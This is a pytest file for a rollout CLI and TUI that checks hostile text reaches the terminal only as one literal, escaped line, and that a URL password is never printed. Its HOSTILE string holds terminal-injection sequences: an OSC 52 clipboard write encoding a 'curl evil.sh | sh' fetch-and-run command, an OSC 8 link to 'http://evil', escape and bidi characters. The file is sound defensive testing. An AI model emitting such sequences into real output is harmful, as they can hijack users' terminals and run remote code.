"""Adversarial: hostile outside text through every output, and secrets in URLs.

Rich markup, CSI, OSC 52 (the clipboard), OSC 8, C1, bidi overrides, zero-width joiners, line
separators, newlines and 10,000 characters, planted where outsiders can plant them: the
paused-by annotation (anyone with `patch` on the route), destination names, an admission
webhook's message, flag keys, Prometheus' build version, an action's reason. What reaches the
terminal (the CLI, the headless demo, the TUI) is one literal line: no byte of it can act.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from monotui.app import MonotuiApp
from monotui.model import Action, ActionKind
from monotui.rollout import assemble
from monotui.sim.demo import build_demo, run_headless
from monotui.sources.flags_flagd import FlagdFileFlags
from monotui.sources.kube_router import BY_KEY, PAUSED_KEY
from monotui.sources.router_static import StaticRouter
from tests.configs import reviews_toml, rollout_config
from tests.fakekube import FakeKube
from tests.fakeprom import FakePrometheus
from tests.router_helpers import dest, virtual_service
from tests.test_app_support import screen_text, settle

ROOT = Path(__file__).resolve().parent.parent
HOSTILE = (
    "\x1b[2J\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07[bold red]pwned[/] "
    "\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\ \x9b31m \u202eright-to-left\u202c "
    "zero\u200dwidth\u200b line\u2028sep\x85nel\nnew line\r\n" + "x" * 10_000
)
# What must never reach a terminal raw: ESC, BEL, C1 CSI, bidi, zero-width, line separators.
FORBIDDEN = ("\x1b", "\x07", "\x9b", "\x85", "\u202e", "\u202c", "\u200d", "\u200b", "\u2028")


def inert(text: str) -> None:
    """`text` (one output) is safe to print: nothing in it acts on a terminal."""
    for ch in FORBIDDEN:
        assert ch not in text, f"{ch!r} reached the output"
    assert all(ch.isprintable() or ch == "\n" for ch in text)


def one_clean_line(stderr: str) -> str:
    assert "Traceback" not in stderr
    assert stderr.count("\n") == 1 and stderr.endswith("\n"), stderr[:400]
    inert(stderr)
    return stderr


CONFIG = reviews_toml()


def cli(kubeconfig: Path, tmp_path: Path, *args: str, config: str = CONFIG, **fmt: Any) -> Any:
    cfg = tmp_path / "monotui.toml"
    cfg.write_text(config.format(audit=tmp_path / "audit.jsonl", **fmt))
    return subprocess.run(
        [sys.executable, "-m", "monotui", *args, "-c", str(cfg)],
        capture_output=True,
        text=True,
        cwd=ROOT,
        env={**os.environ, "KUBECONFIG": str(kubeconfig)},
        timeout=60,
    )


def test_a_hostile_paused_by_annotation_is_shown_literally(
    fake_kube: FakeKube, fake_kubeconfig: Path, tmp_path: Path
) -> None:
    vs = virtual_service(10)
    vs["metadata"]["annotations"].update({PAUSED_KEY: "true", BY_KEY: HOSTILE})
    fake_kube.put_object(vs)
    out = cli(fake_kubeconfig, tmp_path, "pause", "--rollout", "reviews")
    assert out.returncode == 0, out.stderr
    assert "automation already paused by" in out.stdout and "\\x1b[2J" in out.stdout
    assert out.stdout.count("\n") == 1
    inert(out.stdout)
    out = cli(fake_kubeconfig, tmp_path, "status")
    inert(out.stdout + out.stderr)


def test_hostile_destination_names_in_a_router_error(
    fake_kube: FakeKube, fake_kubeconfig: Path, tmp_path: Path
) -> None:
    routes = [{"name": "primary", "route": [dest("v1", 90), dest(HOSTILE[:300], 10)]}]
    fake_kube.put_object(virtual_service(http=routes))
    out = cli(fake_kubeconfig, tmp_path, "advance", "--rollout", "reviews")
    assert out.returncode != 0
    assert "routes to" in one_clean_line(out.stderr)
    out = cli(fake_kubeconfig, tmp_path, "status")
    inert(out.stdout + out.stderr)
    assert out.stderr.count("\n") == 1


def test_a_hostile_admission_webhook_message_is_one_line(
    fake_kube: FakeKube, fake_kubeconfig: Path, tmp_path: Path
) -> None:
    fake_kube.put_object(virtual_service(10))
    fake_kube.fail_next(1, 403, method="PATCH", message=f'admission webhook "x" denied: {HOSTILE}')
    out = cli(fake_kubeconfig, tmp_path, "advance", "--rollout", "reviews")
    assert out.returncode == 4
    assert "admission webhook" in one_clean_line(out.stderr)
    assert len(out.stderr) < 1200  # 10,000 characters do not flood the terminal


FLAGS_CONFIG = """
[audit]
path = "{audit}"

[[rollouts]]
name = "reviews"
[rollouts.router]
kind = "none"
[rollouts.metrics]
kind = "none"
[rollouts.flags]
kind = "flagd-file"
path = "{flags}"
"""


def hostile_flags(tmp_path: Path) -> Path:
    path = tmp_path / "flags.json"
    flag = {"state": "ENABLED", "variants": {"on": True, "off": False}, "defaultVariant": "on"}
    path.write_text(json.dumps({"flags": {"a\nb" + HOSTILE[:200]: flag, "plain": flag}}))
    return path


def test_unknown_flag_lists_hostile_keys_literally(tmp_path: Path) -> None:
    flags = hostile_flags(tmp_path)
    out = cli(
        tmp_path / "none",
        tmp_path,
        "flag",
        "toggle",
        "--rollout",
        "reviews",
        "nope",
        config=FLAGS_CONFIG,
        flags=flags,
    )
    assert out.returncode == 2
    assert "known:" in one_clean_line(out.stderr) and "\\n" in out.stderr  # a\nb is not "a b"


def test_a_dry_run_diff_keeps_its_lines_and_each_is_literal(tmp_path: Path) -> None:
    flags = hostile_flags(tmp_path)
    out = cli(
        tmp_path / "none",
        tmp_path,
        "flag",
        "toggle",
        "--rollout",
        "reviews",
        "plain",
        "--dry-run",
        config=FLAGS_CONFIG,
        flags=flags,
    )
    assert out.returncode == 0, out.stderr
    assert out.stdout.count("\n") > 3  # a diff, line by line
    inert(out.stdout)


PROM_CONFIG = """
[prometheus]
url = "{url}"
timeout_s = 5

[audit]
path = "{audit}"

[[rollouts]]
name = "reviews"
[rollouts.router]
kind = "none"
"""


def test_check_config_shows_a_hostile_prometheus_version_literally(tmp_path: Path) -> None:
    with FakePrometheus(version=HOSTILE[:500]) as prom:
        url = prom.url.replace("http://", "http://bob:hunter2@")
        out = cli(tmp_path / "none", tmp_path, "check-config", config=PROM_CONFIG, url=url)
    inert(out.stdout + out.stderr)
    assert "hunter2" not in out.stdout + out.stderr
    assert "\\x1b[2J" in out.stdout  # shown, spelled out


def test_a_password_in_the_prometheus_url_is_never_printed(tmp_path: Path) -> None:
    url = "http://bob:hunter2@127.0.0.1:9"  # nothing listens: every query fails
    for args in (("status",), ("status", "--json"), ("check-config",)):
        out = cli(tmp_path / "none", tmp_path, *args, config=PROM_CONFIG, url=url)
        assert "hunter2" not in out.stdout + out.stderr, args
        inert(out.stdout + out.stderr)
    data = json.loads(
        cli(tmp_path / "none", tmp_path, "status", "--json", config=PROM_CONFIG, url=url).stdout
    )
    message = data["rollouts"][0]["sources"]["metrics"]["message"]
    assert message and "hunter2" not in message


def test_the_headless_demo_prints_hostile_text_literally(
    capsys: pytest.CaptureFixture[str],
) -> None:
    demo = build_demo("healthy", seed=7, realtime=False)
    tick = demo.tick
    said: list[bool] = []

    def hostile_tick() -> Any:
        if not said:
            said.append(True)
            demo.rollout("checkout").apply(Action(ActionKind.PAUSE, "checkout", reason=HOSTILE))
        return tick()

    demo.tick = hostile_tick  # type: ignore[method-assign]
    out = sys.stdout
    run_headless(demo, 3, out)
    printed = capsys.readouterr().out
    assert "automation paused" in printed and "\\x1b[2J" in printed
    inert(printed)
    assert all(len(line) < 1500 for line in printed.splitlines())


async def test_the_tui_never_lets_bidi_or_zero_width_reach_the_terminal(tmp_path: Path) -> None:
    flags = hostile_flags(tmp_path)
    cfg = rollout_config(
        {
            "name": "reviews",
            "router": {"kind": "none"},
            "metrics": {"kind": "none"},
            "flags": {"kind": "flagd-file", "path": str(flags)},
        }
    )
    ctl = assemble(cfg, router=StaticRouter(), flags=FlagdFileFlags(cfg))
    app = MonotuiApp([ctl], poll=False)
    app.animation_level = "none"
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot)
        ctl.apply(Action(ActionKind.PAUSE, "reviews", reason=HOSTILE))
        app.show_latest("reviews")
        await settle(pilot)
        text = screen_text(app)
        assert "\\u202e" in text or "\\x1b" in text  # what was there is spelled out
        for ch in FORBIDDEN:
            assert ch not in text, f"{ch!r} reached the screen"
        assert "pwned" not in text or "[bold red]pwned" in text  # markup shown, not applied
    ctl.close()
